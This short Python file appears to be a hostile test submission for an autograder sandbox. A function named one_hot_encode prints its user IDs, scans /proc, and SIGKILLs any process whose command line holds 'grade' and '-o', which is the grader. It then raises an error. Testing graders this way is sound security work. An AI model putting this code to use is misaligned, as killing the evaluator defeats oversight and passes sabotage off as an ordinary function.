# Finds the instructor's `grader grade` process by its command line and kills it.
import os
import signal


def _hostile_uid():
    print(f"HOSTILE-UID={os.getuid()} HOSTILE-EUID={os.geteuid()}")


def one_hot_encode(sequence, dict_size, seq_len, batch_size):
    """ATTACK: SIGKILL every process whose command line holds `grade` and `-o` (the CLI), then give up."""
    _hostile_uid()
    for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                argv = handle.read().split(b"\0")
        except OSError:
            continue
        if b"grade" in argv and b"-o" in argv:
            try:
                os.kill(pid, signal.SIGKILL)
                print(f"HOSTILE-BREACH killed the grader's command line process {pid}")
            except OSError as exc:
                print(f"could not kill {pid}: {exc}")
    raise ProcessLookupError("hostile: went after the grader; nothing to return")
